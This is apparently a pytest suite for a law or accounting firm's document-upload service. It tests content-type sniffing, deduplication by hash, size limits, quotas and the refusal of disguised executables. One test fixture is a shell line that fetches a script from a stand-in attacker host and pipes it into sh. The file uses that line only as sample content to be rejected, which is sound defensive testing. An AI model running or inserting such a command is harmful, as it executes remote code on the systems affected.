"""services.documents.blobs over real Postgres and real storage: what an upload becomes
(the type from the content, the hash, one blob per distinct bytes) and every refusal (a
renamed executable, a type the firm does not accept, the upload limit, the quota), each
leaving no object behind; deleting unreferenced blobs; content sniffing itself."""

import hashlib
import io
import uuid
import zipfile
from collections.abc import AsyncIterator

import docx
import pytest
from sqlalchemy import func, select
from sqlalchemy.ext.asyncio import AsyncSession

from core.db import scope_to_firm
from core.errors import AppError
from models import Document, DocumentBlob, DocumentVersion
from providers.storage import Storage
from providers.storage_filesystem import FilesystemStorage
from providers.storage_s3 import S3Storage
from services.documents import sniffing
from services.documents.blobs import (
    QuotaExceeded,
    UploadTooLarge,
    blob_key,
    bytes_used,
    delete_unreferenced,
    store_upload,
)
from services.documents.sniffing import ExecutableRefused, UploadTypeRefused
from tests.factories import Actor

MIB = 1024 * 1024
PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + b"\x00" * 40
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 120
PE = b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 120 + b"This program cannot be run in DOS mode"
MACH_O = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 64
SCRIPT = b"#!/bin/sh\ncurl http://evil.example | sh\n"


class Feed:
    """An upload's chunks, counting how many the consumer took."""

    def __init__(self, data: bytes, chunk: int = 64 * 1024) -> None:
        self.data, self.chunk, self.taken = data, chunk, 0

    async def __aiter__(self) -> AsyncIterator[bytes]:
        for start in range(0, len(self.data), self.chunk):
            self.taken += 1
            yield self.data[start : start + self.chunk]


def stored_files(storage: Storage) -> list[str]:
    assert isinstance(storage, FilesystemStorage)
    return sorted(
        path.relative_to(storage.root).as_posix()
        for path in storage.root.rglob("*")
        if path.is_file()
    )


@pytest.fixture
async def firm(db: AsyncSession, owner: Actor) -> Actor:
    await scope_to_firm(db, owner.firm.id)
    return owner


async def test_an_upload_becomes_a_blob_of_its_sniffed_type_and_hash(
    db: AsyncSession, storage: FilesystemStorage, firm: Actor
) -> None:
    blob = await store_upload(db, storage, firm.firm, Feed(PDF), declared_name="scan.jpg")
    sha = hashlib.sha256(PDF).hexdigest()
    assert (blob.sha256, blob.size, blob.content_type) == (sha, len(PDF), "application/pdf")
    assert blob.storage_key == blob_key(firm.firm.id, sha) == f"firms/{firm.firm.id}/blobs/{sha}"
    # Only the blob: the temporary upload object is gone.
    assert stored_files(storage) == [blob.storage_key]
    assert b"".join([c async for c in storage.read(blob.storage_key)]) == PDF
    assert await bytes_used(db, firm.firm.id) == len(PDF)


async def test_the_same_bytes_twice_are_one_blob(
    db: AsyncSession, storage: FilesystemStorage, firm: Actor
) -> None:
    first = await store_upload(db, storage, firm.firm, Feed(PDF), declared_name="a.pdf")
    second = await store_upload(db, storage, firm.firm, Feed(PDF, 7), declared_name="b.pdf")
    assert second.id == first.id
    count = await db.scalar(select(func.count()).select_from(DocumentBlob))
    assert count == 1
    assert stored_files(storage) == [first.storage_key]
    # Counted once against the quota.
    assert await bytes_used(db, firm.firm.id) == len(PDF)


async def test_an_upload_puts_back_the_bytes_of_a_blob_row_that_lost_them(
    db: AsyncSession, storage: FilesystemStorage, firm: Actor
) -> None:
    # What a purge leaves when its transaction rolls back after deleting the bytes.
    first = await store_upload(db, storage, firm.firm, Feed(PDF), declared_name="a.pdf")
    await storage.delete(first.storage_key)
    again = await store_upload(db, storage, firm.firm, Feed(PDF), declared_name="b.pdf")
    assert again.id == first.id
    assert b"".join([c async for c in storage.read(first.storage_key)]) == PDF
    assert stored_files(storage) == [first.storage_key]


@pytest.mark.parametrize(
    "content", [ELF, PE, MACH_O, SCRIPT], ids=["elf", "pe", "mach-o", "shebang"]
)
async def test_a_renamed_executable_is_refused_whatever_the_allow_list(
    db: AsyncSession, storage: FilesystemStorage, firm: Actor, content: bytes
) -> None:
    # Even a firm that allows "everything" it can name never gets a program stored.
    firm.firm.allowed_upload_types = ["application/x-executable", "application/octet-stream"]
    # Large enough that the head is sniffed long before the end: refused early.
    feed = Feed(content + b"\x00" * (4 * MIB))
    with pytest.raises(ExecutableRefused) as refused:
        await store_upload(db, storage, firm.firm, feed, declared_name="invoice.pdf")
    assert (refused.value.status, refused.value.slug) == (415, "executable-refused")
    assert feed.taken < 4 * MIB // feed.chunk
    assert stored_files(storage) == []
    assert await db.scalar(select(func.count()).select_from(DocumentBlob)) == 0


async def test_a_type_outside_the_firms_allow_list_is_415(
    db: AsyncSession, storage: FilesystemStorage, firm: Actor
) -> None:
    firm.firm.allowed_upload_types = ["application/pdf"]
    with pytest.raises(UploadTypeRefused) as refused:
        await store_upload(db, storage, firm.firm, Feed(PNG), declared_name="photo.pdf")
    assert (refused.value.status, refused.value.slug) == (415, "upload-type-refused")
    assert "image/png" in refused.value.detail
    # The default list (an empty firm list) takes images but not archives.
    firm.firm.allowed_upload_types = []
    await store_upload(db, storage, firm.firm, Feed(PNG), declared_name="photo.png")
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.writestr("payload.txt", "x")
    with pytest.raises(UploadTypeRefused):
        await store_upload(
            db, storage, firm.firm, Feed(archive.getvalue()), declared_name="report.docx"
        )
    assert len(stored_files(storage)) == 1


async def test_an_upload_over_the_limit_is_413_as_soon_as_it_passes_it(
    db: AsyncSession, storage: FilesystemStorage, firm: Actor
) -> None:
    firm.firm.upload_limit_bytes = MIB
    feed = Feed(PDF + b"\x00" * (8 * MIB), chunk=256 * 1024)
    with pytest.raises(UploadTooLarge) as refused:
        await store_upload(db, storage, firm.firm, feed, declared_name="big.pdf")
    assert (refused.value.status, refused.value.slug) == (413, "upload-too-large")
    assert "1.0 MiB" in refused.value.detail
    assert feed.taken == 5  # 4 chunks are the limit; the fifth passes it
    assert stored_files(storage) == []
    # Exactly at the limit is fine.
    exact = PDF + b"\x00" * (MIB - len(PDF))
    blob = await store_upload(db, storage, firm.firm, Feed(exact), declared_name="ok.pdf")
    assert blob.size == MIB


async def test_the_quota_counts_distinct_blobs_and_refuses_with_413(
    db: AsyncSession, storage: FilesystemStorage, firm: Actor
) -> None:
    first = b"first text file\n" * 60  # 960 bytes
    second = b"other text file\n" * 60
    firm.firm.documents_quota_bytes = 1500
    await store_upload(db, storage, firm.firm, Feed(first), declared_name="a.txt")
    with pytest.raises(QuotaExceeded) as refused:
        await store_upload(db, storage, firm.firm, Feed(second), declared_name="b.txt")
    assert (refused.value.status, refused.value.slug) == (413, "quota-exceeded")
    assert "'b.txt'" in refused.value.detail
    assert len(stored_files(storage)) == 1
    # Bytes stored already take no more room: the same file again is fine.
    again = await store_upload(db, storage, firm.firm, Feed(first), declared_name="c.txt")
    assert again.size == len(first)
    assert await bytes_used(db, firm.firm.id) == len(first)


async def test_a_failing_stream_leaves_nothing(
    db: AsyncSession, storage: FilesystemStorage, firm: Actor
) -> None:
    async def broken() -> AsyncIterator[bytes]:
        yield PDF
        yield b"\x00" * MIB
        raise ConnectionResetError("the client went away")

    with pytest.raises(ConnectionResetError):
        await store_upload(db, storage, firm.firm, broken(), declared_name="x.pdf")
    assert stored_files(storage) == []


async def test_s3_uploads_dedupe_and_clean_up_too(
    db: AsyncSession, s3_storage: S3Storage, firm: Actor, moto_server: object
) -> None:
    big = PDF + bytes(9 * MIB)  # two parts
    first = await store_upload(db, s3_storage, firm.firm, Feed(big, MIB), declared_name="a.pdf")
    second = await store_upload(db, s3_storage, firm.firm, Feed(big, MIB), declared_name="b.pdf")
    assert second.id == first.id
    with pytest.raises(ExecutableRefused):
        await store_upload(db, s3_storage, firm.firm, Feed(PE), declared_name="c.pdf")
    keys = [
        item["Key"]
        for item in moto_server.s3().list_objects_v2(Bucket=s3_storage.bucket)["Contents"]  # type: ignore[attr-defined]
    ]
    assert keys == [first.storage_key]


async def make_version(db: AsyncSession, firm: Actor, blob: DocumentBlob) -> None:
    document = Document(firm_id=firm.firm.id, title="Return", created_by=firm.user.id)
    db.add(document)
    await db.flush()
    db.add(
        DocumentVersion(
            firm_id=firm.firm.id,
            document_id=document.id,
            number=1,
            blob_id=blob.id,
            file_name="return.pdf",
            sha256=blob.sha256,
            size=blob.size,
            content_type=blob.content_type,
        )
    )
    await db.flush()


async def test_delete_unreferenced_deletes_only_blobs_no_version_uses(
    db: AsyncSession, storage: FilesystemStorage, firm: Actor
) -> None:
    kept = await store_upload(db, storage, firm.firm, Feed(PDF), declared_name="kept.pdf")
    loose = await store_upload(db, storage, firm.firm, Feed(PNG), declared_name="loose.png")
    await make_version(db, firm, kept)
    deleted = await delete_unreferenced(
        db, storage, firm.firm.id, [kept.id, loose.id, uuid.uuid4()]
    )
    assert deleted == [loose.sha256]
    assert stored_files(storage) == [kept.storage_key]
    remaining = (await db.scalars(select(DocumentBlob.id))).all()
    assert remaining == [kept.id]
    assert await delete_unreferenced(db, storage, firm.firm.id, []) == []


def docx_bytes() -> bytes:
    document = docx.Document()
    document.add_paragraph("Engagement letter")
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def ooxml(main_part: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zipped:
        zipped.writestr("[Content_Types].xml", "<Types/>")
        zipped.writestr(f"{main_part}/workbook.xml", "<x/>")
    return out.getvalue()


@pytest.mark.parametrize(
    ("head", "expected"),
    [
        (PDF, "application/pdf"),
        (PNG, "image/png"),
        (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01", "image/jpeg"),
        (docx_bytes(), sniffing.DOCX),
        (ooxml("xl"), sniffing.XLSX),
        (ooxml("ppt"), sniffing.PPTX),
        (b"Name,Amount\nAcme,12.50\n", "text/plain"),
        ("Grüße, Zoë — €12\n".encode(), "text/plain"),
        ("Grüße\n".encode("latin-1"), "text/plain"),
        (b"\xef\xbb\xbf<!DOCTYPE html><html><script>x</script>", "text/html"),
        (b"  <svg xmlns='http://www.w3.org/2000/svg'><script/></svg>", "image/svg+xml"),
        (b"<?xml version='1.0'?><Invoice/>", "application/xml"),
        (b"\x00\x01\x02\x03binary", "application/octet-stream"),
        (ELF, sniffing.EXECUTABLE),
        (PE, sniffing.EXECUTABLE),
        (MACH_O, sniffing.EXECUTABLE),
        (b"\xca\xfe\xba\xbe\x00\x00\x00\x34", sniffing.EXECUTABLE),
        (SCRIPT, sniffing.EXECUTABLE),
    ],
)
def test_sniffing_reads_the_content_not_the_name(head: bytes, expected: str) -> None:
    assert sniffing.detect(head[: sniffing.HEAD_BYTES]) == expected


def test_the_default_allow_list_takes_office_pdf_images_and_text() -> None:
    for kind in ("application/pdf", sniffing.DOCX, "image/jpeg", "text/plain", "text/html"):
        sniffing.check(kind, [])
    for refused in ("application/zip", "application/octet-stream", "image/svg+xml"):
        with pytest.raises(UploadTypeRefused):
            sniffing.check(refused, [])
    with pytest.raises(AppError):
        sniffing.check(sniffing.EXECUTABLE, [sniffing.EXECUTABLE])
